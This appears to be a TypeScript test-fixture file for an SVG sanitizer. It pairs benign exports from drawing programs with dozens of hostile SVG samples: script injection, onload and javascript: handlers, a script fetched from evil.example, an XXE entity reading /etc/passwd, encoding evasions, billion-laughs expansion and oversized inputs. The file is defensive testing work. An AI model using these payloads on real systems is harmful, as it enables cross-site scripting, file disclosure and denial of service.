/** Drawings that tests look at: such as drawing programs write, and such as attack. All of them are made up. */

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64" viewBox="0 0 64 64"${attributes && ` ${attributes}`}>${inside}<rect width="64" height="64" fill="#246"/></svg>`;

/** As the programs write them, with all that they leave in a file. */
export const exported: Record<string, string> = {
  Inkscape: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->

<svg
   width="64mm"
   height="64mm"
   viewBox="0 0 64 64"
   version="1.1"
   id="svg5"
   inkscape:version="1.2.2 (b0a8486541, 2022-12-01)"
   sodipodi:docname="pier.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns="http://www.w3.org/2000/svg"
   xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview
     id="namedview7"
     pagecolor="#ffffff"
     inkscape:document-units="mm"
     showgrid="false"><inkscape:grid type="xygrid" id="grid9" /></sodipodi:namedview>
  <defs
     id="defs2">
    <linearGradient
       inkscape:collect="always"
       id="linearGradient100">
      <stop
         style="stop-color:#1d4e89;stop-opacity:1;"
         offset="0"
         id="stop1" />
      <stop
         style="stop-color:#f26419;stop-opacity:1;"
         offset="1"
         id="stop2" />
    </linearGradient>
    <linearGradient
       inkscape:collect="always"
       xlink:href="#linearGradient100"
       id="linearGradient102"
       x1="4"
       y1="4"
       x2="60"
       y2="60"
       gradientUnits="userSpaceOnUse" />
    <inkscape:path-effect effect="spiro" id="path-effect3" is_visible="true" />
    <filter
       inkscape:label="Blur"
       style="color-interpolation-filters:sRGB"
       id="filter4"
       x="-0.1"
       y="-0.1"
       width="1.2"
       height="1.2"><feGaussianBlur stdDeviation="1 1" result="blur" id="fe1" /></filter>
    <clipPath
       clipPathUnits="userSpaceOnUse"
       id="clipPath8"><circle cx="32" cy="32" r="30" id="circle8" /></clipPath>
  </defs>
  <metadata
     id="metadata5"><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format><dc:title>Pier</dc:title></cc:Work></rdf:RDF></metadata>
  <g
     inkscape:label="Layer 1"
     inkscape:groupmode="layer"
     id="layer1"
     clip-path="url(#clipPath8)">
    <path
       style="fill:url(#linearGradient102);fill-opacity:1;stroke:#000000;stroke-width:0.264583px;stroke-linecap:butt;-inkscape-stroke:none;paint-order:stroke fill markers"
       d="M 4,4 H 60 V 60 H 4 Z"
       id="path31"
       sodipodi:nodetypes="ccccc" />
    <ellipse
       style="fill:#ffffff;filter:url(#filter4);font-variation-settings:normal"
       cx="32" cy="40" rx="12" ry="8" id="path33" />
    <text
       xml:space="preserve"
       style="font-size:10.5833px;line-height:1.25;font-family:sans-serif;-inkscape-font-specification:'sans-serif, Normal';letter-spacing:0px;fill:#111;shape-inside:url(#rect9)"
       x="20"
       y="24"
       id="text44"><tspan
         sodipodi:role="line"
         id="tspan42"
         x="20"
         y="24">Pier &amp; C°</tspan></text>
    <use x="0" y="0" xlink:href="#path33" transform="matrix(0.5,0,0,0.5,4,30)" id="use3" />
  </g>
</svg>
`,
  Illustrator: `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 24.0.1, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
\t width="64px" height="64px" viewBox="0 0 64 64" style="enable-background:new 0 0 64 64;" xml:space="preserve">
<style type="text/css">
\t.st0{clip-path:url(#SVGID_2_);}
\t.st1{fill:url(#SVGID_3_);}
\t.st2{fill:none;stroke:#E63946;stroke-width:3;stroke-miterlimit:10;}
\t.st2,.st3{opacity:0.8;enable-background:new    ;}
\t.st3{fill-rule:evenodd;clip-rule:evenodd;fill:#2A9D8F;}
\t.st4{font-family:'MyriadPro-Regular', sans-serif;}
\t.st5{font-size:9px;}
\ttext.st5{fill:#FFF;} path { stroke-linejoin:round; } #Mark { fill:#FFB703; }
</style>
<g>
\t<defs>
\t\t<rect id="SVGID_1_" x="2" y="2" width="60" height="60"/>
\t</defs>
\t<clipPath id="SVGID_2_">
\t\t<use xlink:href="#SVGID_1_"  style="overflow:visible;"/>
\t</clipPath>
\t<g class="st0">
\t\t<linearGradient id="SVGID_3_" gradientUnits="userSpaceOnUse" x1="0" y1="0" x2="64" y2="64" gradientTransform="matrix(1 0 0 -1 0 64)">
\t\t\t<stop  offset="0" style="stop-color:#264653"/>
\t\t\t<stop  offset="1" style="stop-color:#E9C46A"/>
\t\t</linearGradient>
\t\t<rect class="st1" width="64" height="64"/>
\t\t<polygon class="st3" points="8,56 32,12 56,56 "/>
\t\t<path class="st2" d="M10,10c12.4,0,22.4,10,22.4,22.4S22.4,54.8,10,54.8"/>
\t\t<path id="Mark" class="st3" d="M40 40h10v10H40z"/>
\t</g>
</g>
<text transform="matrix(1 0 0 1 8 20)" class="st4 st5" style="fill-opacity:.9">Pier</text>
</svg>
`,
  'Illustrator, newer': `<?xml version="1.0" encoding="UTF-8"?><svg id="a" data-name="Layer 1" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><defs><style>.b{fill:#1d3557;}.c{isolation:isolate;mix-blend-mode:multiply;fill:#e63946;}</style></defs><g class="c" role="img" aria-label="Pier"><rect class="b" width="40" height="40"/></g><circle class="c" cx="40" cy="40" r="20"/></svg>`,
  Figma: `<svg width="64" height="64" viewBox="0 0 64 64" fill="none" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<g clip-path="url(#clip0_12_34)">
<rect width="64" height="64" rx="12" fill="url(#paint0_linear_12_34)"/>
<mask id="mask0_12_34" style="mask-type:luminance" maskUnits="userSpaceOnUse" x="0" y="0" width="64" height="64">
<path d="M64 0H0V64H64V0Z" fill="white"/>
</mask>
<g mask="url(#mask0_12_34)" filter="url(#filter0_d_12_34)">
<path fill-rule="evenodd" clip-rule="evenodd" d="M32 8L56 56H8L32 8ZM32 24L22 46H42L32 24Z" fill="#F1FAEE" fill-opacity="0.9"/>
<circle cx="48" cy="16" r="6" fill="url(#paint1_radial_12_34)" stroke="black" stroke-opacity="0.2"/>
<rect x="4" y="4" width="20" height="20" fill="url(#pattern0_12_34)"/>
</g>
</g>
<defs>
<filter id="filter0_d_12_34" x="0" y="4" width="64" height="64" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB">
<feFlood flood-opacity="0" result="BackgroundImageFix"/>
<feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0" result="hardAlpha"/>
<feOffset dy="4"/>
<feGaussianBlur stdDeviation="2"/>
<feComposite in2="hardAlpha" operator="out"/>
<feColorMatrix type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0.25 0"/>
<feBlend mode="normal" in2="BackgroundImageFix" result="effect1_dropShadow_12_34"/>
<feBlend mode="normal" in="SourceGraphic" in2="effect1_dropShadow_12_34" result="shape"/>
</filter>
<pattern id="pattern0_12_34" patternContentUnits="objectBoundingBox" width="0.5" height="0.5">
<use xlink:href="#dot0_12_34" transform="scale(0.05)"/>
</pattern>
<linearGradient id="paint0_linear_12_34" x1="0" y1="0" x2="64" y2="64" gradientUnits="userSpaceOnUse">
<stop stop-color="#457B9D"/>
<stop offset="1" stop-color="#1D3557"/>
</linearGradient>
<radialGradient id="paint1_radial_12_34" cx="0" cy="0" r="1" gradientUnits="userSpaceOnUse" gradientTransform="translate(48 16) rotate(90) scale(6)">
<stop stop-color="#FFB703"/>
<stop offset="1" stop-color="#FFB703" stop-opacity="0"/>
</radialGradient>
<clipPath id="clip0_12_34">
<rect width="64" height="64" fill="white"/>
</clipPath>
<circle id="dot0_12_34" cx="4" cy="4" r="3" fill="#E63946"/>
</defs>
</svg>
`,
  'Affinity Designer': `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg width="100%" height="100%" viewBox="0 0 64 64" version="1.1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xml:space="preserve" xmlns:serif="http://www.serif.com/" style="fill-rule:evenodd;clip-rule:evenodd;stroke-linejoin:round;stroke-miterlimit:2;"><g id="Artboard1" serif:id="Artboard 1" transform="matrix(1.1,0,0,1.1,-2,-2)"><rect x="6" y="6" width="48" height="48" style="fill:rgb(38,70,83);"/><path d="M10,10L50,50" style="fill:none;stroke:rgb(233,196,106);stroke-width:4px;"/></g></svg>`,
  'prefixes of its own': `\ufeff<s:svg xmlns:s="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" viewBox="0 0 64 64" width="64" height="64"><s:defs><s:g id="图层_1"><s:rect width="30" height="30" fill="#083"/></s:g></s:defs><s:use x:href="#图层_1" x="4"/><s:use href="#图层_1" x:href="#none" x="30" y="30"/></s:svg>`,
};

const sprite = 'http://evil.example/sprite.svg#a';
const script = 'globalThis.hacked = true';
const xhtml = 'xmlns:h="http://www.w3.org/1999/xhtml"';
const utf16 = (text: string) => Buffer.from(text, 'utf16le');

/** A drawing that attacks, and what the refusal names; null where what attacks is left out as no part of a drawing. */
export interface Hostile {
  drawing: string | Uint8Array;
  named: string | null;
}

const laughs = Array.from(
  { length: 9 },
  (_, at) => `<g id="g${at + 1}">${`<use href="#g${at}"/>`.repeat(10)}</g>`,
).join('');

export const hostile: Record<string, Hostile> = {
  'a script': { drawing: svg(`<script>${script}</script>`), named: '<script> (line 1)' },
  'a script in CDATA': { drawing: svg(`<script><![CDATA[${script}]]></script>`), named: '<script>' },
  'a script with a prefix': {
    drawing: `<a-b:svg xmlns:a-b="http://www.w3.org/2000/svg"><a-b:script>${script}</a-b:script></a-b:svg>`,
    named: '<a-b:script>',
  },
  'a script of HTML': {
    drawing: svg(`<h.t:script xmlns:h.t="http://www.w3.org/1999/xhtml">${script}</h.t:script>`),
    named: '<h.t:script>',
  },
  'a script in a namespace that changes': {
    drawing: svg(`<g xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></g>`),
    named: '<g>',
  },
  'a script in a program’s notes': {
    drawing: svg(
      `<x:note xmlns:x="urn:notes"><script>${script}</script></x:note><metadata><script>${script}</script></metadata>`,
    ),
    named: null,
  },
  'a script in a description': { drawing: svg(`<desc><script>${script}</script></desc>`), named: '<script>' },
  'a script from elsewhere': { drawing: svg('<script href="http://evil.example/x.js"/>'), named: '<script>' },
  'a script in a page': {
    drawing: svg(
      `<foreignObject width="9" height="9"><h:body ${xhtml}><h:img src="x:" onerror="${script}"/></h:body></foreignObject>`,
    ),
    named: '<foreignObject>',
  },
  'an event handler': { drawing: svg('', `onload="${script}"`), named: 'the attribute onload of <svg>' },
  'an event handler further down': {
    drawing: svg(`<svg onload="${script}"/>`),
    named: 'the attribute onload',
  },
  'an animation that begins': {
    drawing: svg(`<animate onbegin="${script}" attributeName="x" dur="1s"/>`),
    named: '<animate>',
  },
  'an animation of an address': {
    drawing: svg('<use id="u"><set attributeName="href" to="http://evil.example/x.svg#a"/></use>'),
    named: '<set>',
  },
  'a handler that a DOCTYPE adds': {
    drawing: `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${script}">]>${svg('')}`,
    named: 'a DOCTYPE with declarations of its own',
  },
  'a script that an entity holds': {
    drawing: `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>${script}</script>">]>${svg('&x;')}`,
    named: 'a DOCTYPE with declarations of its own',
  },
  'a file that an entity holds': {
    drawing: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
    named: 'a DOCTYPE with declarations of its own',
  },
  'a script in UTF-16': {
    drawing: utf16(`\ufeff${svg(`<script>${script}</script>`)}`),
    named: 'is not UTF-8',
  },
  'a script in UTF-16 without a mark': {
    drawing: utf16(`<?xml version="1.0" encoding="UTF-16"?>${svg(`<script>${script}</script>`)}`),
    named: 'holds what a drawing must not',
  },
  'a script in UTF-16, the other way round': {
    drawing: utf16(`\ufeff${svg(`<script>${script}</script>`)}`).swap16(),
    named: 'is not UTF-8',
  },
  'a script in ISO-2022-JP': {
    drawing: Buffer.from(
      `<?xml version="1.0" encoding="ISO-2022-JP"?>${svg(`<s\x1b(Bcript>${script}</s\x1b(Bcript>`)}`,
      'latin1',
    ),
    named: 'what is no XML',
  },
  'a script in UTF-7': {
    drawing: `<?xml version="1.0" encoding="UTF-7"?>${svg(`+ADw-script+AD4-${script}+ADw-/script+AD4-`)}`,
    named: 'the encoding UTF-7',
  },
  'another encoding': {
    drawing: `<?xml version="1.0" encoding="windows-1252"?>${svg('')}`,
    named: 'the encoding windows-1252',
  },
  'a link that runs': {
    drawing: svg(`<a xlink:href="javascript:${script}"><text y="9">x</text></a>`),
    named: '<a>',
  },
  'a link that runs, spelled': {
    drawing: svg('<use href="java&#115;cript:x"/>'),
    named: 'the attribute href of <use>',
  },
  'a drawing within a drawing': {
    drawing: svg(
      `<use href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' id='a' onload='${script}'/>#a"/>`,
    ),
    named: 'the attribute href of <use>',
  },
  'part of another drawing': {
    drawing: svg(`<use xlink:href="${sprite}"/>`),
    named: 'the attribute xlink:href of <use>',
  },
  'an image from elsewhere': {
    drawing: svg('<image href="http://evil.example/x.png" width="9" height="9"/>'),
    named: '<image>',
  },
  'a filter that loads': {
    drawing: svg('<filter id="f"><feImage href="http://evil.example/x.png"/></filter>'),
    named: '<feImage>',
  },
  'a style sheet from elsewhere': {
    drawing: `<?xml-stylesheet type="text/css" href="http://evil.example/x.css"?>${svg('')}`,
    named: '<?xml-stylesheet?>',
  },
  'a transformation from elsewhere': {
    drawing: `<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>${svg('')}`,
    named: '<?xml-stylesheet?>',
  },
  'a style that imports': {
    drawing: svg('<style>@import "http://evil.example/x.css";</style>'),
    named: '@import',
  },
  'a font from elsewhere': {
    drawing: svg(
      '<style>@font-face{font-family:x;src:url(http://evil.example/x.woff)}</style><text font-family="x">x</text>',
    ),
    named: '@font-face',
  },
  'a style that loads': {
    drawing: svg('<style>rect{background:url(http://evil.example/x.png)}</style>'),
    named: 'of the property background',
  },
  'a style of its own that loads': {
    drawing: svg('', 'style="background: url(&quot;http://evil.example/x.png&quot;)"'),
    named: 'of the property background',
  },
  'a style that loads, in an escape': {
    drawing: svg('', String.raw`style="background: \75rl(http://evil.example/x.png)"`),
    named: 'the style',
  },
  'a style that loads by another function': {
    drawing: svg('', `style="background: image-set('http://evil.example/x.png' 1x)"`),
    named: 'of the property background',
  },
  'a style that loads behind a comment': {
    drawing: svg(
      '',
      'style="fill:red/*;*/;background:url/**/(http://evil.example/y);background:/**/url(http://evil.example/x.png)"',
    ),
    named: 'of the property background',
  },
  'a style that hides in a property of one program': {
    drawing: svg('', 'style="-x: url(http://evil.example/x.png)"'),
    named: 'the property “-x”',
  },
  'a style with a variable': {
    drawing: svg('<rect style="fill:var(--a)"/>', 'style="--a: red"'),
    named: 'of the property fill',
  },
  'a paint from elsewhere': {
    drawing: svg(`<rect fill="url(${sprite})"/>`),
    named: 'the attribute fill of <rect>',
  },
  'a cursor from elsewhere': {
    drawing: svg('', 'cursor="url(http://evil.example/x.cur), auto"'),
    named: 'the attribute cursor',
  },
  'another base for addresses': {
    drawing: svg('<use href="#a"/>', 'xml:base="http://evil.example/"'),
    named: 'the attribute xml:base',
  },
  'a page that goes elsewhere': {
    drawing: svg(`<h:meta ${xhtml} http-equiv="refresh" content="0;url=http://evil.example/"/>`),
    named: '<h:meta>',
  },
  'a page within': {
    drawing: svg(`<h:iframe ${xhtml} src="javascript:parent.hacked=true"/>`),
    named: '<h:iframe>',
  },
  'a link to a style sheet': {
    drawing: svg(`<h:link ${xhtml} rel="stylesheet" href="http://evil.example/x.css"/>`),
    named: '<h:link>',
  },
  'an event by another name': {
    drawing: svg('<rect ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events"/>'),
    named: 'the attribute ev:event',
  },
  'a name without its namespace': { drawing: svg('<x:rect/>'), named: '<x:rect>' },
  'a name with two prefixes': { drawing: svg('<xlink:a:b/>'), named: '<xlink:a:b>' },
  'the name of what every object has': {
    drawing: svg('<constructor/><rect __proto__="1"/>'),
    named: '<constructor>',
  },
  'a page': {
    drawing: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`,
    named: '<html>',
  },
  'a page that is no XML': { drawing: `<!doctype html><script>${script}</script>`, named: 'what is no XML' },
  'groups without end': {
    drawing: svg(`${'<g>'.repeat(20_000)}${'</g>'.repeat(20_000)}`),
    named: 'more than 100 elements within each other',
  },
  'groups without an end': {
    drawing: '<g>'.repeat(100_000),
    named: 'more than 100 elements within each other',
  },
  'elements without end': { drawing: svg('<g/>'.repeat(60_000)), named: 'more than 50,000 elements' },
  'a billion elements out of a hundred': {
    drawing: svg(`<rect id="g0"/>${laughs}`),
    named: 'more than 50,000 elements to draw',
  },
  'a billion elements by their paint': {
    drawing: svg(
      Array.from(
        { length: 9 },
        (_, at) => `<pattern id="p${at + 1}">${`<rect style="fill:url(#p${at})"/>`.repeat(10)}</pattern>`,
      ).join(''),
    ),
    named: 'more than 50,000 elements to draw',
  },
  'an element that uses itself': {
    drawing: svg('<g id="a"><use href="#a"/></g>'),
    named: 'that refers to itself',
  },
  'elements that use each other': {
    drawing: svg(Array.from({ length: 9_000 }, (_, at) => `<use id="u${at}" href="#u${at + 1}"/>`).join('')),
    named: 'elements that refer to each other',
  },
  'a megabyte': {
    drawing: svg(`<path d="${'M0 0'.repeat(250_000)}"/>`),
    named: 'it is longer than 524,288 characters',
  },
  'rules of style without end': {
    drawing: svg(`<style>${'a{}'.repeat(150_000)}</style>`),
    named: 'more than 1,000 rules of style',
  },
  'line ends without end': { drawing: svg('\r'.repeat(400_000)), named: null },
};
